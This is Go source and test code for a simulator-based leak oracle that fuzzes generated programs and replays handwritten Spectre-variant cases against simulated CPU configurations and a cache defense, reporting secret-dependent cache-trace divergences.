	return RunLanes(ctx, spec, opt, 1)
}

// RunLanes is Run with each seed's configuration matrix advanced in lockstep
// lane groups of the given width (CheckSeedLanes).  The report is
// byte-identical to Run at any lane count, so lanes stays out of the
// content-addressed CampaignSpec.  The golden corpus and the shrinker run
// serially regardless of lanes.
func RunLanes(ctx context.Context, spec difftest.CampaignSpec, opt sweep.Options, lanes int) (Report, error) {
	spec = spec.WithDefaults()
	if !spec.Leaks {
		return Report{}, fmt.Errorf("leak: spec does not request a leak campaign")
	}
	if spec.Interleave {
		return Report{}, fmt.Errorf("leak: --leaks and --interleave are mutually exclusive oracles")
	}
	if spec.Seeds < 1 {
		return Report{}, fmt.Errorf("leak: seeds %d out of range", spec.Seeds)
	}
	if spec.Len < 1 {
		return Report{}, fmt.Errorf("leak: len %d out of range", spec.Len)
	}
	cfgs, err := spec.Configs()
	if err != nil {
		return Report{}, err
	}
	popt := Options(spec)

	rep := Report{Spec: spec, Configs: len(cfgs)}
	rep.Corpus, err = runCorpus(cfgs)
	if err != nil {
		return Report{}, err
	}

	seeds := make([]int64, spec.Seeds)
	for i := range seeds {
		seeds[i] = spec.SeedBase + int64(i)
	}
	results, runErr := sweep.Run(ctx, seeds, func(_ context.Context, seed int64) (SeedResult, error) {
		return CheckSeedLanes(seed, popt, cfgs, lanes), nil
	}, opt)

	rep.PerConfig = make([]ConfigSummary, len(cfgs))
	perCfg := make(map[string]*ConfigSummary, len(cfgs))
	for i, nc := range cfgs {
		rep.PerConfig[i] = ConfigSummary{Config: nc.Name}
		perCfg[nc.Name] = &rep.PerConfig[i]
	}
	for _, r := range results {
		if r.Ran == nil && r.Findings == nil {
			continue // cancelled before this seed ran
		}
		for _, name := range r.Ran {
			perCfg[name].Runs++
			rep.Runs++
		}
		for _, f := range r.Findings {
			s := perCfg[f.Config] // nil for the config-independent "iss" findings
			switch f.Kind {
			case KindLeak:
				rep.Leaks++
				if s != nil {
					s.Leaks++
				}
			default:
				rep.Errors++
				if s != nil {
					s.Errors++
				}
			}
			rep.Findings = append(rep.Findings, f)
		}
	}
	rep.Clean = rep.Errors == 0

	if !spec.NoShrink {
		minimize(ctx, &rep, popt, cfgs, opt)
	}
	return rep, runErr
}

// minimize shrinks each leaky seed once — against its first leaking
// configuration — and attaches the reproducer to every leak finding of the
// seed, mirroring difftest.Run's shrink pass (including holding a slot of
// the shared worker budget per shrink).
func minimize(ctx context.Context, rep *Report, popt proggen.Options, cfgs []difftest.NamedConfig, opt sweep.Options) {
	byName := make(map[string]difftest.NamedConfig, len(cfgs))
	for _, nc := range cfgs {
		byName[nc.Name] = nc
	}
	gate := opt.Gate
	if gate == nil {
		gate = sweep.GateFrom(ctx)
	}
	shrunkBySeed := make(map[int64]*difftest.Reproducer)
	for i := range rep.Findings {
		f := &rep.Findings[i]
		if f.Kind != KindLeak || f.Seed == 0 {
			continue
		}
		nc, ok := byName[f.Config]
		if !ok || ctx.Err() != nil {
			continue
		}
		min, ok := shrunkBySeed[f.Seed]
		if !ok {
			if gate != nil {
				if gate.Acquire(ctx) != nil {
					continue // cancelled while waiting for a slot
				}
			}
			seed, cfg := f.Seed, []difftest.NamedConfig{nc}
			reduced := difftest.ShrinkWith(ctx, popt, func(o proggen.Options) bool {
				for _, g := range CheckSeed(seed, o, cfg).Findings {
					if g.Kind == KindLeak {
						return true
					}
				}
				return false
			})
			if gate != nil {
				gate.Release()
			}
			min = difftest.NewReproducer(f.Seed, reduced, f.Config)
			shrunkBySeed[f.Seed] = min
		}
		f.Minimized = min
	}
}

// Merge folds a later campaign round into r (the CLI's --duration mode runs
// successive rounds over fresh seed ranges).  The golden corpus is round-
// independent, so the first round's rows stand.
func (r Report) Merge(next Report) Report {
	r.Runs += next.Runs
	r.Leaks += next.Leaks
	r.Errors += next.Errors
	r.Spec.Seeds += next.Spec.Seeds
	r.Clean = r.Clean && next.Clean
	r.Findings = append(r.Findings, next.Findings...)
	r.PerConfig = append([]ConfigSummary(nil), r.PerConfig...) // don't mutate the caller's round
	byName := make(map[string]int, len(r.PerConfig))
	for i, s := range r.PerConfig {
		byName[s.Config] = i
	}
	for _, s := range next.PerConfig {
		i, ok := byName[s.Config]
		if !ok {
			r.PerConfig = append(r.PerConfig, s)
			continue
		}
		r.PerConfig[i].Runs += s.Runs
		r.PerConfig[i].Leaks += s.Leaks
		r.PerConfig[i].Errors += s.Errors
	}
	return r
}
