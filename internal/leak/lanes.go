package leak

import (
	"specrun/internal/cpu"
	"specrun/internal/difftest"
	"specrun/internal/proggen"
)

// CheckSeedLanes is CheckSeed with the seed's configuration runs advanced in
// lockstep lane groups by the batch driver: the sequential baseline runs
// once, then each group of up to `lanes` observed machines ticks together —
// first every lane's valuation-A run, then valuation B for the lanes whose A
// completed.  Per-machine observer buffers keep the traces separate, and the
// result is byte-identical to CheckSeed at any lane count (findings and Ran
// keep configuration order).
func CheckSeedLanes(seed int64, opt proggen.Options, cfgs []difftest.NamedConfig, lanes int) SeedResult {
	if lanes <= 1 {
		return CheckSeed(seed, opt, cfgs)
	}
	if lanes > difftest.RunnerCacheCap {
		lanes = difftest.RunnerCacheCap // a group must never evict its own machines
	}
	r := runners.Get()
	defer runners.Put(r)
	res := SeedResult{Seed: seed}
	in := SeedInput(seed, opt)
	if f := r.CheckSeqBaseline(in); f != nil {
		f.Seed = seed
		res.Findings = append(res.Findings, *f)
		return res
	}
	for len(r.laneBufA) < lanes {
		r.laneBufA = append(r.laneBufA, make([]Event, 0, 4096))
		r.laneBufB = append(r.laneBufB, make([]Event, 0, 4096))
	}
	for lo := 0; lo < len(cfgs); lo += lanes {
		group := cfgs[lo:min(lo+lanes, len(cfgs))]
		es, ms, errsA, errsB := r.laneEs[:0], r.laneMs[:0], r.laneErrs[:0], []error(nil)
		// Valuation A on every lane.
		for gi, nc := range group {
			e := r.entryFor(nc, in.ProgA)
			if in.PokeA != nil {
				in.PokeA(e.c.Mem())
			}
			buf := &r.laneBufA[gi]
			*buf = (*buf)[:0]
			e.active = buf
			es, ms, errsA = append(es, e), append(ms, e.c), append(errsA, nil)
		}
		cpu.RunLockstep(ms, cpuBudget, errsA)
		// Valuation B on the lanes whose A run completed.
		errsB = make([]error, len(group))
		for gi, e := range es {
			if errsA[gi] != nil {
				e.active = nil
				ms[gi] = nil
				continue
			}
			e.c.Reset(in.ProgB)
			if in.PokeB != nil {
				in.PokeB(e.c.Mem())
			}
			buf := &r.laneBufB[gi]
			*buf = (*buf)[:0]
			e.active = buf
		}
		cpu.RunLockstep(ms, cpuBudget, errsB)
		for _, e := range es {
			e.active = nil
		}
		r.laneEs, r.laneMs, r.laneErrs = es[:0], ms[:0], errsA[:0]
		// Findings in configuration order, exactly as serial CheckConfig
		// would report them.
		for gi, nc := range group {
			report := func(f *Finding, ran bool) {
				if ran {
					res.Ran = append(res.Ran, nc.Name)
				}
				if f != nil {
					f.Seed = seed
					res.Findings = append(res.Findings, *f)
				}
			}
			if err := errsA[gi]; err != nil {
				report(&Finding{Program: in.Name, Config: nc.Name, Kind: KindRunError, Detail: "valuation A: " + err.Error()}, false)
				continue
			}
			if err := errsB[gi]; err != nil {
				report(&Finding{Program: in.Name, Config: nc.Name, Kind: KindRunError, Detail: "valuation B: " + err.Error()}, false)
				continue
			}
			a, b := r.laneBufA[gi], r.laneBufB[gi]
			if i, ok := firstDiff(a, b); ok {
				f := &Finding{Program: in.Name, Config: nc.Name, Kind: KindLeak, Index: i,
					Detail: diffDetail(a, b, i)}
				f.PC, f.Line, f.Event = divergenceSite(a, b, i)
				report(f, true)
				continue
			}
			report(nil, true)
		}
	}
	return res
}
