package leak

import (
	"context"
	"encoding/json"
	"testing"

	"specrun/internal/asm"
	"specrun/internal/difftest"
	"specrun/internal/isa"
	"specrun/internal/proggen"
	"specrun/internal/sweep"
)

// TestCampaignFindsLeaks runs a small generated-seed campaign and pins the
// oracle's gross behaviour: the generator's Spectre-victim shape leaks on
// plenty of seeds, the sequential baseline never diverges (the shape's
// bounds check is architecturally always taken), and every leak finding
// carries a responsible PC, a cache line and a shrinker-minimized
// reproducer.
func TestCampaignFindsLeaks(t *testing.T) {
	spec := difftest.CampaignSpec{Seeds: 60, Leaks: true}
	rep, err := Run(context.Background(), spec, sweep.Options{Workers: 4})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Errors != 0 || !rep.Clean {
		t.Fatalf("campaign reported %d errors (clean=%v): %+v", rep.Errors, rep.Clean, rep.Findings)
	}
	if rep.Leaks == 0 {
		t.Fatal("campaign found no leaks — the generator's Spectre shape stopped transmitting")
	}
	if rep.Runs != spec.Seeds*rep.Configs {
		t.Fatalf("runs = %d, want seeds×configs = %d", rep.Runs, spec.Seeds*rep.Configs)
	}
	if len(rep.Corpus) != len(CorpusVariants)*rep.Configs {
		t.Fatalf("corpus rows = %d, want variants×configs = %d", len(rep.Corpus), len(CorpusVariants)*rep.Configs)
	}
	for _, f := range rep.Findings {
		if f.Kind != KindLeak {
			t.Fatalf("unexpected finding kind %q: %+v", f.Kind, f)
		}
		if f.PC == 0 || f.Line == 0 {
			t.Errorf("seed %d/%s: leak without responsible PC/line: %+v", f.Seed, f.Config, f)
		}
		if f.Minimized == nil {
			t.Errorf("seed %d/%s: leak without minimized reproducer", f.Seed, f.Config)
		} else if f.Minimized.Options.SecretBytes != DefaultSecretBytes {
			t.Errorf("seed %d/%s: shrinker dropped the secret region: %+v", f.Seed, f.Config, f.Minimized.Options)
		}
	}
}

// TestCampaignDeterministic pins worker-count independence: the report is a
// pure function of the spec.
func TestCampaignDeterministic(t *testing.T) {
	spec := difftest.CampaignSpec{Seeds: 12, Leaks: true, NoShrink: true}
	a, err := Run(context.Background(), spec, sweep.Options{Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Run(context.Background(), spec, sweep.Options{Workers: 7})
	if err != nil {
		t.Fatal(err)
	}
	ja, _ := json.Marshal(a)
	jb, _ := json.Marshal(b)
	if string(ja) != string(jb) {
		t.Fatalf("reports differ across worker counts:\n%s\n%s", ja, jb)
	}
}

// TestCampaignSpecGuards pins the difftest/leak engine split: each engine
// rejects the other's specs.
func TestCampaignSpecGuards(t *testing.T) {
	if _, err := Run(context.Background(), difftest.CampaignSpec{Seeds: 1}, sweep.Options{}); err == nil {
		t.Error("leak.Run accepted a spec without Leaks")
	}
	if _, err := Run(context.Background(), difftest.CampaignSpec{Seeds: 1, Leaks: true, Interleave: true}, sweep.Options{}); err == nil {
		t.Error("leak.Run accepted Leaks+Interleave")
	}
	if _, err := difftest.Run(context.Background(), difftest.CampaignSpec{Seeds: 1, Leaks: true}, sweep.Options{}); err == nil {
		t.Error("difftest.Run accepted a Leaks spec")
	}
}

// TestMergeRounds pins --duration round folding.
func TestMergeRounds(t *testing.T) {
	spec := difftest.CampaignSpec{Seeds: 10, Leaks: true, NoShrink: true}
	a, err := Run(context.Background(), spec, sweep.Options{Workers: 4})
	if err != nil {
		t.Fatal(err)
	}
	next := spec
	next.SeedBase = 11
	b, err := Run(context.Background(), next, sweep.Options{Workers: 4})
	if err != nil {
		t.Fatal(err)
	}
	m := a.Merge(b)
	if m.Runs != a.Runs+b.Runs || m.Leaks != a.Leaks+b.Leaks || m.Spec.Seeds != 20 {
		t.Fatalf("merge totals wrong: %+v", m)
	}
	if len(m.Findings) != len(a.Findings)+len(b.Findings) {
		t.Fatalf("merge lost findings: %d + %d -> %d", len(a.Findings), len(b.Findings), len(m.Findings))
	}
	for i, s := range m.PerConfig {
		if s.Runs != a.PerConfig[i].Runs+b.PerConfig[i].Runs {
			t.Fatalf("per-config merge wrong for %s", s.Config)
		}
	}
}

// TestSeqDivergenceClassified pins the oracle's second outcome class: when
// the two runs differ architecturally (here: the poked byte feeds an
// architectural load's address), the finding is a seq_divergence on the
// "iss" pseudo-config — not a leak — and no pipeline run happens.
func TestSeqDivergenceClassified(t *testing.T) {
	b := asm.NewBuilder(0x1000, 0x100000)
	buf := b.Alloc("buf", 128, 64)
	b.MoviAddr(isa.R(20), buf)
	b.Ldb(isa.R(1), isa.R(20), 0)
	b.Andi(isa.R(1), isa.R(1), 63)
	b.Ldbx(isa.R(2), isa.R(20), isa.R(1), 0, 0) // address depends on the poked byte
	b.Halt()
	prog := b.MustBuild()
	in := Input{
		Name:  "seq-divergent",
		ProgA: prog, ProgB: prog,
		PokeA: PokeBytes(buf, []byte{0x00}),
		PokeB: PokeBytes(buf, []byte{0x3F}),
	}
	r := NewRunner()
	f := r.CheckSeqBaseline(in)
	if f == nil {
		t.Fatal("expected a sequential divergence")
	}
	if f.Kind != KindSeqDivergence || f.Config != "iss" {
		t.Fatalf("got kind=%q config=%q, want seq_divergence on iss", f.Kind, f.Config)
	}
	if f.Detail == "" {
		t.Fatal("seq divergence without detail")
	}
}

// TestLeakRegressions replays shrinker-minimized reproducers from the first
// leak campaign (seeds 1..300, quick matrix): each must still be flagged as
// a leak under the configuration it was minimized against.
func TestLeakRegressions(t *testing.T) {
	base := proggen.Options{
		Len: 60, BufBytes: 4096, StackBytes: 1024,
		Loops: true, Calls: true, Gadgets: true, Flushes: true,
		FloatOps: true, Vector: true,
		SecretBytes: DefaultSecretBytes,
	}
	with := func(mod func(*proggen.Options)) proggen.Options {
		o := base
		mod(&o)
		return o
	}
	cases := []struct {
		seed   int64
		config string
		opt    proggen.Options
	}{
		{277, "original-rob256", with(func(o *proggen.Options) {
			o.Len = 2
			o.Loops, o.Calls, o.Flushes, o.FloatOps, o.Vector = false, false, false, false, false
		})},
		{260, "original-rob256", with(func(o *proggen.Options) {
			o.Len = 3
			o.Loops, o.Flushes = false, false
		})},
		{251, "tiny", with(func(o *proggen.Options) {
			o.Len = 4
			o.Loops, o.Calls, o.Flushes, o.FloatOps, o.Vector = false, false, false, false, false
		})},
		{237, "none-rob256", with(func(o *proggen.Options) {
			o.Len = 32
			o.BufBytes, o.StackBytes = 512, 256
			o.Loops, o.Calls, o.Flushes, o.FloatOps, o.Vector = false, false, false, false, false
		})},
	}
	byName := make(map[string]difftest.NamedConfig)
	for _, nc := range difftest.Matrix(false) {
		byName[nc.Name] = nc
	}
	for _, c := range cases {
		nc, ok := byName[c.config]
		if !ok {
			t.Fatalf("config %q missing from quick matrix", c.config)
		}
		res := CheckSeed(c.seed, c.opt, []difftest.NamedConfig{nc})
		leak := false
		for _, f := range res.Findings {
			if f.Kind == KindLeak && f.Config == c.config {
				leak = true
			} else {
				t.Errorf("seed %d/%s: unexpected finding %+v", c.seed, c.config, f)
			}
		}
		if !leak {
			t.Errorf("seed %d/%s: minimized reproducer no longer leaks", c.seed, c.config)
		}
	}
}
