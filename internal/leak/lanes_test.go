package leak

import (
	"context"
	"encoding/json"
	"reflect"
	"testing"

	"specrun/internal/difftest"
	"specrun/internal/sweep"
)

// TestCheckSeedLaneInvariant pins the lockstep leak oracle's contract: the
// per-seed findings and Ran lists are identical to the serial checker at
// every lane count (the per-machine observer buffers keep concurrent lanes'
// traces separate).
func TestCheckSeedLaneInvariant(t *testing.T) {
	cfgs := difftest.Matrix(false)
	opt := Options(difftest.CampaignSpec{}.WithDefaults())
	for seed := int64(1); seed <= 3; seed++ {
		want := CheckSeed(seed, opt, cfgs)
		for _, lanes := range []int{1, 3, 4, 16} {
			got := CheckSeedLanes(seed, opt, cfgs, lanes)
			if !reflect.DeepEqual(got, want) {
				t.Fatalf("seed %d lanes=%d: result diverged from serial:\nbatched: %+v\nserial:  %+v", seed, lanes, got, want)
			}
		}
	}
}

// TestCampaignLaneInvariant pins the campaign-level invariant: the leak
// report is byte-identical across lane counts and against the serial path.
func TestCampaignLaneInvariant(t *testing.T) {
	spec := difftest.CampaignSpec{Seeds: 4, Leaks: true, NoShrink: true}
	serial, err := Run(context.Background(), spec, sweep.Options{Workers: 2})
	if err != nil {
		t.Fatal(err)
	}
	want, err := json.Marshal(serial)
	if err != nil {
		t.Fatal(err)
	}
	for _, lanes := range []int{4, 16} {
		rep, err := RunLanes(context.Background(), spec, sweep.Options{Workers: 2}, lanes)
		if err != nil {
			t.Fatalf("lanes=%d: %v", lanes, err)
		}
		got, err := json.Marshal(rep)
		if err != nil {
			t.Fatal(err)
		}
		if string(got) != string(want) {
			t.Errorf("lanes=%d: leak report diverged from serial:\nbatched: %s\nserial:  %s", lanes, got, want)
		}
	}
}
