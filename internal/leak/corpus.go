package leak

import (
	"fmt"

	"specrun/internal/attack"
	"specrun/internal/difftest"
)

// CorpusVariants is the golden leak corpus: the handwritten SPECRUN PoCs
// (Spectre-PHT/BTB/RSB retrained for runahead, §4.4).  Every campaign
// replays them before fuzzing, so defense regressions surface even when no
// generated seed happens to synthesize a gadget.
var CorpusVariants = []attack.Variant{
	attack.VariantPHT,
	attack.VariantBTB,
	attack.VariantRSBOverwrite,
	attack.VariantRSBFlush,
}

// corpusNopPad returns the nop padding between the mispredicted control
// transfer and the secret access for the corpus build of v.
//
// The branch variants (PHT/BTB) pad by 300: the transient body lands beyond
// the 256-entry ROB (Fig. 11) and the secret access only ever executes
// during runahead.  Without the padding those PoCs also leak through
// ordinary wrong-path out-of-order speculation — real, but not the runahead
// channel this oracle (and the SL-cache defense) targets, so the secure
// configuration could never look clean.
//
// The return variants need no padding: their stalling load is the return
// itself (or feeds its target), so it reaches the ROB head — and triggers
// the runahead episode — before the wrong-path gadget issues.  The gadget
// then executes in runahead mode, where the SL cache hides it.  Padding
// instead *kills* their transmission (the episode drains nops and ends
// before the secret access), which the corpus probe pinned empirically.
func corpusNopPad(v attack.Variant) int {
	switch v {
	case attack.VariantPHT, attack.VariantBTB:
		return 300
	default:
		return 0
	}
}

// AttackInput builds the two-run self-composition for one PoC variant: the
// same attack program assembled with two complementary secret bytes.  The
// secret is part of the data segment, so the two programs differ exactly
// there and no memory poke is needed.
func AttackInput(v attack.Variant) (Input, error) {
	build := func(secret byte) (Input, error) {
		p := attack.DefaultParams()
		p.Variant = v
		p.Secret = []byte{secret}
		p.NopPad = corpusNopPad(v)
		prog, _, err := attack.Build(p)
		if err != nil {
			return Input{}, fmt.Errorf("leak: corpus %s: %w", v, err)
		}
		return Input{Name: v.String(), ProgA: prog}, nil
	}
	a, err := build(0x56)
	if err != nil {
		return Input{}, err
	}
	b, err := build(^byte(0x56))
	if err != nil {
		return Input{}, err
	}
	a.ProgB = b.ProgA
	return a, nil
}

// CorpusRow is one variant×config outcome of the golden-corpus phase,
// making defense effectiveness directly visible in the report: with
// defenses off every variant must leak; with the SL-cache defense on, none.
type CorpusRow struct {
	Program string `json:"program"`
	Config  string `json:"config"`
	Leak    bool   `json:"leak"`
	Error   string `json:"error,omitempty"`
	PC      uint64 `json:"pc,omitempty"`
	Line    uint64 `json:"line,omitempty"`
}

// runCorpus checks every PoC variant against every configuration on a
// dedicated runner (the pooled seed-phase runners stay unpolluted by the
// attack-specific BTB/ROB overrides ConfigFor applies).
func runCorpus(cfgs []difftest.NamedConfig) ([]CorpusRow, error) {
	r := NewRunner()
	rows := make([]CorpusRow, 0, len(CorpusVariants)*len(cfgs))
	for _, v := range CorpusVariants {
		in, err := AttackInput(v)
		if err != nil {
			return nil, err
		}
		if f := r.CheckSeqBaseline(in); f != nil {
			return nil, fmt.Errorf("leak: corpus %s: %s: %s", v, f.Kind, f.Detail)
		}
		for _, nc := range cfgs {
			// The PoCs need the variant's microarchitectural preconditions
			// (BTB geometry for the aliasing variant) on top of the matrix
			// point, exactly like the attack driver applies them.
			tuned := difftest.NamedConfig{Name: nc.Name, Config: attack.ConfigFor(v, nc.Config)}
			row := CorpusRow{Program: in.Name, Config: nc.Name}
			f, ran := r.CheckConfig(in, tuned)
			switch {
			case !ran:
				row.Error = f.Detail
			case f != nil:
				row.Leak = true
				row.PC, row.Line = f.PC, f.Line
			}
			rows = append(rows, row)
		}
	}
	return rows, nil
}
