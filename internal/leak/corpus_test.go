package leak

import (
	"fmt"
	"testing"

	"specrun/internal/difftest"
)

// TestGoldenCorpus pins the full variant×config leak matrix for the
// handwritten PoCs.  The two acceptance-critical rows:
//
//   - original-rob256 (runahead on, defenses off): every variant leaks.
//   - original-rob256-secure (SL-cache defense, §6): every variant is
//     suppressed.
//
// The rest of the table documents *why* each variant leaks:
//
//   - pht/btb pad the transient body beyond the ROB (Fig. 11), so they
//     transmit only during runahead — runahead-off (none-rob256) and the
//     skip-INV fetch barrier are clean, and tiny's L2 trigger level plus
//     32-entry ROB never reaches the padded body.
//   - The rsb variants stall on the return itself, transmitting under
//     plain wrong-path speculation too (none-rob256 leaks); only the SL
//     cache hides them.  skipinv additionally stops rsb-overwrite — its
//     poisoned return address is an INV operand, so fetch barriers before
//     the gadget — but not rsb-flush, whose stale RSB entry predicts the
//     gadget without consuming any INV value.
type corpusExpect struct {
	variant string
	leaky   map[string]bool // config name -> expected leak
}

func TestGoldenCorpus(t *testing.T) {
	expect := []corpusExpect{
		{"pht", map[string]bool{
			"none-rob256": false, "original-rob256": true, "precise-rob256": true,
			"vector-rob256": true, "original-rob256-secure": false,
			"skipinv-rob256": false, "original-rob48": true, "tiny": false,
		}},
		{"btb", map[string]bool{
			"none-rob256": false, "original-rob256": true, "precise-rob256": true,
			"vector-rob256": true, "original-rob256-secure": false,
			"skipinv-rob256": false, "original-rob48": true, "tiny": false,
		}},
		{"rsb-overwrite", map[string]bool{
			"none-rob256": true, "original-rob256": true, "precise-rob256": true,
			"vector-rob256": true, "original-rob256-secure": false,
			"skipinv-rob256": false, "original-rob48": true, "tiny": true,
		}},
		{"rsb-flush", map[string]bool{
			"none-rob256": true, "original-rob256": true, "precise-rob256": true,
			"vector-rob256": true, "original-rob256-secure": false,
			"skipinv-rob256": true, "original-rob48": true, "tiny": true,
		}},
	}

	cfgs := difftest.Matrix(false)
	rows, err := runCorpus(cfgs)
	if err != nil {
		t.Fatal(err)
	}
	want := make(map[string]bool, len(expect)*len(cfgs))
	for _, e := range expect {
		if len(e.leaky) != len(cfgs) {
			t.Fatalf("expectation table for %s covers %d configs, matrix has %d", e.variant, len(e.leaky), len(cfgs))
		}
		for cfg, leak := range e.leaky {
			want[e.variant+"/"+cfg] = leak
		}
	}
	if len(rows) != len(want) {
		t.Fatalf("corpus produced %d rows, expected %d", len(rows), len(want))
	}
	for _, r := range rows {
		key := r.Program + "/" + r.Config
		if r.Error != "" {
			t.Errorf("%s: run error: %s", key, r.Error)
			continue
		}
		wantLeak, ok := want[key]
		if !ok {
			t.Errorf("%s: row not covered by the expectation table", key)
			continue
		}
		if r.Leak != wantLeak {
			t.Errorf("%s: leak=%v, want %v", key, r.Leak, wantLeak)
		}
		if r.Leak && r.Line == 0 {
			t.Errorf("%s: leak reported without a responsible cache line", key)
		}
		if r.Leak && r.PC == 0 {
			t.Errorf("%s: leak reported without a responsible PC", key)
		}
	}
}

// TestCorpusDeterministic re-runs one corpus variant and requires
// bit-identical rows — the oracle must be a pure function of the input.
func TestCorpusDeterministic(t *testing.T) {
	cfgs := difftest.Matrix(false)[:4]
	a, err := runCorpus(cfgs)
	if err != nil {
		t.Fatal(err)
	}
	b, err := runCorpus(cfgs)
	if err != nil {
		t.Fatal(err)
	}
	if fmt.Sprintf("%+v", a) != fmt.Sprintf("%+v", b) {
		t.Fatalf("corpus rows differ between identical runs:\n%+v\n%+v", a, b)
	}
}
