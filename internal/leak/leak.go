// Package leak is the microarchitectural noninterference oracle: where the
// difftest engine proves speculation *architecturally* invisible, this
// package checks whether it is *microarchitecturally* silent about secrets —
// the property SPECRUN breaks.
//
// The oracle is a two-run self-composition (following the compositional-
// semantics leak detectors).  A program runs twice with two secret
// valuations; the simulator is deterministic, so:
//
//  1. If the sequential (in-order, non-speculative) observation traces of
//     the two runs are equal, the program's architectural behaviour is
//     secret-independent — a constant-time-style baseline from the
//     reference interpreter (specrun/internal/iss).
//  2. Any difference between the corresponding *pipeline* observation
//     traces (cpu.SetObserver + mem.Hierarchy.SetObserver: cache-line
//     touches by speculative loads, runahead prefetches, fills, evictions
//     and SL-cache promotions) is then caused by speculation alone and
//     depends on the secret — a transmission gadget, reported with the
//     responsible PC and cache line.
//
// Sequential equality makes the full-trace pipeline diff equivalent to a
// diff of the speculative-only portions: every event the sequential
// semantics would emit appears identically in both pipeline runs.
package leak

import (
	"fmt"

	"specrun/internal/asm"
	"specrun/internal/cpu"
	"specrun/internal/difftest"
	"specrun/internal/iss"
	"specrun/internal/mem"
	"specrun/internal/proggen"
	"specrun/internal/sweep"
)

// Execution budgets (matching difftest; the attack PoCs fit comfortably).
const (
	issBudget = 5_000_000
	cpuBudget = 20_000_000
)

// EventKind classifies one normalized observation-trace event.
type EventKind uint8

const (
	// Pipeline-side events (cpu.Observation).
	EvLoad EventKind = iota
	EvPrefetch
	EvStore
	EvFlush
	EvSLPromote
	// Hierarchy-side events (mem.CacheEvent).
	EvFill
	EvEvict
	// Sequential-baseline events (iss.Observation).
	EvSeqLoad
	EvSeqStore
	EvSeqFlush
)

func (k EventKind) String() string {
	switch k {
	case EvLoad:
		return "load"
	case EvPrefetch:
		return "prefetch"
	case EvStore:
		return "store"
	case EvFlush:
		return "flush"
	case EvSLPromote:
		return "sl-promote"
	case EvFill:
		return "fill"
	case EvEvict:
		return "evict"
	case EvSeqLoad:
		return "seq-load"
	case EvSeqStore:
		return "seq-store"
	case EvSeqFlush:
		return "seq-flush"
	default:
		return "?"
	}
}

// Event is one normalized observation.  Events are comparable values; a
// trace is a []Event in emission order with no cycle numbers, so pure
// timing shifts between two runs never register as divergence.
type Event struct {
	PC    uint64 // 0 for hierarchy-internal fill/evict events
	Line  uint64 // line-aligned (pipeline) or raw effective address (sequential)
	Kind  EventKind
	Level uint8 // mem.Level for pipeline events
	Mode  uint8 // cpu.Mode for pipeline events
}

func (e Event) String() string {
	switch e.Kind {
	case EvFill, EvEvict:
		return fmt.Sprintf("{%s %s line=%#x}", e.Kind, mem.Level(e.Level), e.Line)
	case EvSeqLoad, EvSeqStore, EvSeqFlush:
		return fmt.Sprintf("{%s pc=%#x addr=%#x}", e.Kind, e.PC, e.Line)
	}
	mode := "normal"
	if cpu.Mode(e.Mode) == cpu.ModeRunahead {
		mode = "runahead"
	}
	return fmt.Sprintf("{%s pc=%#x line=%#x %s %s}", e.Kind, e.PC, e.Line, mem.Level(e.Level), mode)
}

// Finding kinds.
const (
	// KindLeak is a confirmed speculative leak: equal sequential baselines,
	// divergent pipeline observation traces.
	KindLeak = "leak"
	// KindSeqDivergence means the *sequential* traces already differ — the
	// program's architectural behaviour depends on the secret, so nothing
	// speculative can be concluded.  Proggen leak programs are constructed
	// to never do this; a finding of this kind is an oracle/program bug.
	KindSeqDivergence = "seq_divergence"
	// KindRunError is a simulator failure (budget exhausted, deadlock).
	KindRunError = "run_error"
)

// Finding is one oracle outcome worth reporting.
type Finding struct {
	Seed    int64  `json:"seed,omitempty"`    // generated-program inputs
	Program string `json:"program,omitempty"` // named inputs (attack corpus)
	Config  string `json:"config"`
	Kind    string `json:"kind"`
	Detail  string `json:"detail,omitempty"`
	PC      uint64 `json:"pc,omitempty"`    // responsible instruction (leaks)
	Line    uint64 `json:"line,omitempty"`  // first divergent cache line
	Event   string `json:"event,omitempty"` // kind of the first divergent event
	Index   int    `json:"index,omitempty"` // its position in the trace
	// Minimized, when the shrinker ran, is a reduced reproducer whose
	// Config names the configuration the reduction was validated against.
	Minimized *difftest.Reproducer `json:"minimized,omitempty"`
}

// Input is one two-run self-composition instance: two programs with
// identical text whose initial memory differs only in the secret.  For
// generated programs ProgA == ProgB and the pokes write the valuations; the
// attack corpus builds the secret into the data segment, so ProgA and ProgB
// differ there and the pokes are nil.
type Input struct {
	Name         string
	ProgA, ProgB *asm.Program
	PokeA, PokeB func(*mem.Memory)
}

// Runner holds the per-worker simulator state a leak campaign reuses across
// inputs: one reference interpreter, one observed pipeline machine per
// configuration, and the reusable trace buffers.  Each machine's observers
// are installed once at construction and write through its own entry.active,
// so machine reuse never reinstalls closures — and machines advanced together
// in a lockstep lane group record into separate buffers.
type Runner struct {
	ref  *iss.Interp
	cpus map[string]*entry
	tick uint64

	active     *[]Event // buffer the interpreter's observer appends to
	bufA, bufB []Event
	seqA, seqB []Event

	// Lane scratch for CheckSeedLanes (reused across groups and seeds).
	laneEs             []*entry
	laneMs             []*cpu.CPU
	laneErrs           []error
	laneBufA, laneBufB [][]Event
}

type entry struct {
	cfg     cpu.Config
	c       *cpu.CPU
	lastUse uint64
	active  *[]Event // buffer this machine's observers append to
}

// NewRunner builds an empty runner (campaigns draw pooled runners instead).
func NewRunner() *Runner {
	return &Runner{cpus: make(map[string]*entry, difftest.RunnerCacheCap)}
}

var runners = sweep.NewLocal(NewRunner)

func (e *entry) onCPU(o cpu.Observation) {
	*e.active = append(*e.active, Event{
		PC: o.PC, Line: o.Line, Kind: cpuKind(o.Kind), Level: uint8(o.Level), Mode: uint8(o.Mode),
	})
}

func (e *entry) onMem(ev mem.CacheEvent) {
	k := EvFill
	if ev.Kind == mem.CacheEvict {
		k = EvEvict
	}
	*e.active = append(*e.active, Event{Line: ev.Line, Kind: k, Level: uint8(ev.Level)})
}

func (r *Runner) onISS(o iss.Observation) {
	*r.active = append(*r.active, Event{PC: o.PC, Line: o.Addr, Kind: seqKind(o.Kind)})
}

func cpuKind(k cpu.ObsKind) EventKind {
	switch k {
	case cpu.ObsLoad:
		return EvLoad
	case cpu.ObsPrefetch:
		return EvPrefetch
	case cpu.ObsStore:
		return EvStore
	case cpu.ObsFlush:
		return EvFlush
	default:
		return EvSLPromote
	}
}

func seqKind(k iss.ObsKind) EventKind {
	switch k {
	case iss.ObsLoad:
		return EvSeqLoad
	case iss.ObsStore:
		return EvSeqStore
	default:
		return EvSeqFlush
	}
}

// seqTrace runs prog on the reference interpreter and captures its
// observation trace into *into (reused across calls).
